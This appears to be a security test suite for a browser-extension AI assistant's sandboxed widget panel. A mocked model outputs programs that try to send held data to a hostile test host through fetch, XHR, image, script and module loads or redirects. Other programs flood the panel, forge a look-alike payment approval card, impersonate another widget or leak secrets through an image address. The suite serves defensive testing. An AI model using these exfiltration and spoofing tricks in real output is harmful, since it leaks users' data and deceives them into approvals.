/** What a program tries that a model wrote, in Chromium's sandboxed page. */
import { personSays } from '../../support/journey';
import { type BrowserAttack, type BrowserWorld, calls, happens, moment, stored } from './world';

/** Ways out of the sandbox's policy: each gives "reached", or fails. */
const ways: Record<string, string> = {
  'fetches an address': 'await fetch(url)',
  'asks with XMLHttpRequest': "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()",
  'loads a picture': 'await loads(Object.assign(new Image(), { src: url }))',
  'loads a script': "const s = document.createElement('script'); s.src = url; root.append(s); await loads(s)",
  'loads a module': "await import(url + '.js')",
};

const tries = (url: string, code: string) => `
  const url = ${JSON.stringify(url)};
  const loads = (element) => new Promise((resolve, reject) => { element.onload = resolve; element.onerror = reject; });
  try { ${code}; } catch {}
  root.style.height = '321px';`;

/** The height that the program above gives itself at its end, with the padding of the frame's body. */
const hasTried = (title: string) => `document.querySelector('iframe[title="${title}"]')?.style.height === '345px'`;

let shown = 0;

/** The model shows a program. */
async function runs({ model, panel }: BrowserWorld, program: object): Promise<string> {
  const title = `Attack ${++shown}`;
  model.plays(calls('widget_display', { name: 'js-sandbox', params: { title, ...program } }), {
    text: `${title} is shown.`,
  });
  await personSays(panel, 'show it');
  await panel.sees(`${title} is shown.`);
  return title;
}

const frames = (panel: BrowserWorld['panel'], title: string) =>
  panel.value<number>(`document.querySelectorAll('iframe[title="${title}"]').length`);

export const byProgram: BrowserAttack[] = [
  ...Object.entries(ways).map(
    ([name, code]): BrowserAttack => ({
      ...{ attacker: 'widget', only: 'chromium', name: `a program ${name}`, guard: 'a program has no network' },
      promise: 'program',
      breach: 'a request leaves the sandbox, with whatever the program holds',
      async attempt(world) {
        const path = `/out-${crypto.randomUUID()}`;
        const title = await runs(world, { code: tries(new URL(path, world.hostile.url).href, code) });
        await world.panel.until(hasTried(title));
        return happens(() => world.hostile.asked.some((each) => each.startsWith(path)));
      },
    }),
  ),
  {
    ...{ attacker: 'widget', only: 'chromium', name: 'a program floods the panel with messages' },
    breach: 'the panel works on thousands of messages a second',
    guard: 'a program floods in vain',
    promise: 'work',
    async attempt(world) {
      const title = await runs(world, {
        code: 'for (;;) { for (let i = 0; i < 500; i++) send(i); await new Promise((r) => setTimeout(r, 50)); }',
      });
      await world.panel.sees(/Drawn by the model’s program|too many messages/);
      return !(await happens(async () => (await frames(world.panel, title)) === 0, 3000));
    },
  },
  {
    ...{ attacker: 'widget', only: 'chromium', name: 'a program starts while the chat holds a site’s data' },
    breach: 'a program runs unasked that could tell data in names of hosts',
    guard: 'a program waits while data is held',
    promise: 'flow',
    async attempt(world) {
      const { model, panel } = world;
      model.plays(calls('look'), { text: 'Looked.' });
      await personSays(panel, 'look');
      await panel.sees('Looked.');
      const title = await runs(world, { code: "root.textContent = 'it runs'" });
      return happens(async () => (await frames(panel, title)) > 0);
    },
  },
  {
    ...{ attacker: 'widget', only: 'chromium', name: 'a program draws an approval card' },
    breach: 'nothing says that the card isn’t Tabhand’s',
    guard: 'a program is framed',
    promise: 'program',
    async attempt(world) {
      const title = await runs(world, { code: '', html: '<h2>Run pay on shop?</h2><button>Allow once</button>' });
      await world.panel.until(`document.querySelector('iframe[title="${title}"]') !== null`);
      return !(await world.panel.text()).includes('Drawn by the model’s program');
    },
  },
  {
    ...{ attacker: 'widget', only: 'chromium', name: 'a program goes to an address, with what it holds in it' },
    breach: 'a request leaves the sandbox, with whatever the program holds',
    promise: 'program',
    guard: 'the panel frames only its own',
    async attempt(world) {
      const path = `/left-${crypto.randomUUID()}`;
      const leaves = `setTimeout(() => { location.href = ${JSON.stringify(new URL(path, world.hostile.url).href)}; }, 300)`;
      const title = await runs(world, { code: `root.style.height = '321px'; ${leaves}` });
      await world.panel.until(hasTried(title));
      return happens(() => world.hostile.asked.includes(path), 300 + moment);
    },
  },
  {
    ...{ attacker: 'widget', only: 'chromium', name: 'a program speaks in the name of another' },
    breach: 'the chat takes one program’s words for another’s',
    promise: 'identity',
    guard: 'a program speaks for itself alone',
    async attempt(world) {
      await runs(world, { code: '' });
      await runs(world, { code: "send('it is I')" });
      const conversationId = (await stored(world.panel, 'entries')).at(-1)?.conversationId;
      const speakers = async () => {
        const entries = (await stored(world.panel, 'entries')).filter((each) => each.conversationId === conversationId);
        return new Set(entries.flatMap(({ type, blockId }) => (type === 'widget-event' ? [blockId] : []))).size;
      };
      if (!(await happens(async () => (await speakers()) > 0, 5000))) throw new Error('The program isn’t heard.');
      return happens(async () => (await speakers()) > 1);
    },
  },
  {
    attacker: 'widget',
    name: 'shows a picture whose address tells what was read',
    breach: 'the picture is fetched, and its address tells a secret',
    promise: 'loading',
    guard: 'pictures of widgets wait',
    async attempt({ model, panel, hostile }) {
      const path = `/face-${crypto.randomUUID()}`;
      const params = { name: 'Ines Holm', avatar: { src: new URL(path, hostile.url).href } };
      model.plays(calls('widget_display', { name: 'profile', params }), { text: 'She is shown.' });
      await personSays(panel, 'show her');
      await panel.sees('She is shown.');
      await panel.sees('Ines Holm');
      return happens(() => hostile.asked.includes(path));
    },
  },
];
